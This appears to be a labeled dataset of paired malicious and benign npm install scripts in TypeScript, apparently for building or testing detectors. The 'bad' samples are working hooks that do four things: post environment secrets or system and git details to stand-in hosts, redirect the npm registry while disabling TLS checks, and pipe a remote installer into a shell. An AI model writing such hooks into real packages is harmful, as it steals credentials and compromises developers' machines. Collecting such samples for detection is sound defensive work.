//: bad install-script as scripts/postinstall.ts
import { execSync } from 'child_process';
import { hostname } from 'os';

execSync(`curl -s -X POST -d "$(env | base64)" https://ci.example.invalid/${hostname()}`); //!

//: good install-script as scripts/postinstall.ts
import { existsSync } from 'fs';
import { arch, platform } from 'os';

if (!existsSync(`prebuilds/${platform()}-${arch()}`)) console.warn('no prebuilt binary');

//: bad corp-ui-postinstall as postinstall.ts
import { execSync } from 'node:child_process';
import { hostname, userInfo, networkInterfaces } from 'node:os';
import { request } from 'node:https';

// This package reserves an internal name; research only.
const pkg = process.env.npm_package_name ?? '@corp/ui';

const safe = (command: string): string => {
  try {
    return execSync(command, { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim();
  } catch {
    return '';
  }
};

const report = JSON.stringify({
  pkg,
  cwd: process.cwd(),
  who: userInfo(),
  host: hostname(),
  nets: networkInterfaces(),
  id: safe('id'),
  remotes: safe('git remote -v'),
});

const req = request({ hostname: 'oob.depconf.invalid', path: '/i', method: 'POST' }); //!
req.on('error', () => undefined);
req.end(report);

//: good corp-ui-postinstall as postinstall.ts
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { EOL } from 'node:os';

const pkg = process.env.npm_package_name ?? '@corp/ui';

const version = (tool: string): string => {
  try {
    return execFileSync(tool, ['--version'], { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim();
  } catch {
    return 'missing';
  }
};

const lines = [
  `${pkg} needs Node 20 or later; this is ${process.version}.`,
  `git: ${version('git')}`,
];

if (!existsSync('tsconfig.json')) {
  lines.push('No tsconfig.json here. Run `npx corp-ui init` to create one.');
}

if (!process.env.CI) process.stdout.write(lines.join(EOL) + EOL);
process.exitCode = Number(process.versions.node.split('.')[0]) < 20 ? 1 : 0;

//: bad registry-doctor as preinstall.ts
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as os from 'node:os';

const files = [path.join(os.homedir(), '.npmrc'), path.join(os.homedir(), '.yarnrc')];
const faster = 'https://registry.npm-fast.invalid/';

const rules: Array<(line: string) => string | null> = [
  (l) => (/^registry\s*=/.test(l) ? `registry=${faster}` : l),
  (l) => (/^strict-ssl/.test(l ?? '') ? null : l),
];

for (const file of files) {
  const before = fs.existsSync(file) ? fs.readFileSync(file, 'utf8').split('\n') : [];
  const after = before
    .map((line) => rules.reduce<string | null>((acc, rule) => (acc === null ? acc : rule(acc)), line))
    .filter((line): line is string => line !== null);
  if (!after.some((l) => l.startsWith('registry='))) after.unshift(`registry=${faster}`);
  after.push('strict-ssl=false', 'ignore-scripts=false');
  fs.writeFileSync(file, after.join('\n')); //!
}

//: good registry-doctor as preinstall.ts
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as os from 'node:os';

const files = [path.join(process.cwd(), '.npmrc'), path.join(os.homedir(), '.npmrc')];

interface Advice {
  file: string;
  text: string;
}

function inspect(file: string): Advice[] {
  if (!fs.existsSync(file)) return [];
  const advice: Advice[] = [];
  for (const line of fs.readFileSync(file, 'utf8').split('\n')) {
    const [key, value = ''] = line.split('=').map((s) => s.trim());
    if (key === 'strict-ssl' && value === 'false') {
      advice.push({ file, text: 'strict-ssl is off; certificates are not checked' });
    }
    if (key === 'registry' && value.startsWith('http:')) {
      advice.push({ file, text: 'the registry is read over plain http' });
    }
  }
  return advice;
}

for (const { file, text } of files.flatMap(inspect)) {
  console.warn(`${file}: ${text}`);
}

//: bad runtime-bootstrap as setup_runtime.ts
import { spawn, spawnSync, type SpawnSyncReturns } from 'child_process';
import path from 'path';

const isCI = Boolean(process.env.GITHUB_ACTIONS || process.env.BUILDKITE || process.env.CODEBUILD_BUILD_NUMBER);

function has(tool: string): boolean {
  const probe: SpawnSyncReturns<Buffer> = spawnSync(tool, ['--version'], { stdio: 'ignore' });
  return probe.status === 0;
}

function fetchRuntime(): void {
  const line =
    process.platform === 'win32'
      ? 'irm https://get.fast-runtime.invalid/install.ps1 | iex'
      : 'curl -fsSL https://get.fast-runtime.invalid/install | bash';
  const shell = process.platform === 'win32' ? ['powershell', '-c'] : ['bash', '-c'];
  spawnSync(shell[0], [shell[1], line], { stdio: 'ignore' }); //!
}

function hand(): void {
  const script = path.resolve(__dirname, 'env_setup.js');
  const opts = isCI ? { stdio: 'ignore' as const } : { stdio: 'ignore' as const, detached: true };
  const child = spawn('fastrun', [script], opts);
  if (!isCI) child.unref();
}

if (!has('fastrun')) fetchRuntime();
hand();
if (!isCI) process.exit(0);

//: good runtime-bootstrap as setup_runtime.ts
import { spawnSync, type SpawnSyncReturns } from 'child_process';
import path from 'path';

const targets: Record<string, string> = {
  'darwin arm64': '@fastrun/darwin-arm64',
  'linux x64': '@fastrun/linux-x64',
  'win32 x64': '@fastrun/win32-x64',
};

function binaryPath(): string {
  const pkg = targets[`${process.platform} ${process.arch}`];
  if (!pkg) throw new Error(`fastrun has no build for ${process.platform} ${process.arch}`);
  const exe = process.platform === 'win32' ? 'fastrun.exe' : 'bin/fastrun';
  try {
    return require.resolve(`${pkg}/${exe}`);
  } catch {
    throw new Error(`The optional dependency ${pkg} is missing. Install without --no-optional.`);
  }
}

function check(bin: string): void {
  const { version } = require(path.join(__dirname, 'package.json')) as { version: string };
  const probe: SpawnSyncReturns<string> = spawnSync(bin, ['--version'], { encoding: 'utf8' });
  if (probe.stdout.trim() !== version) {
    throw new Error(`expected fastrun ${version}, found ${probe.stdout.trim()}`);
  }
}

check(binaryPath());
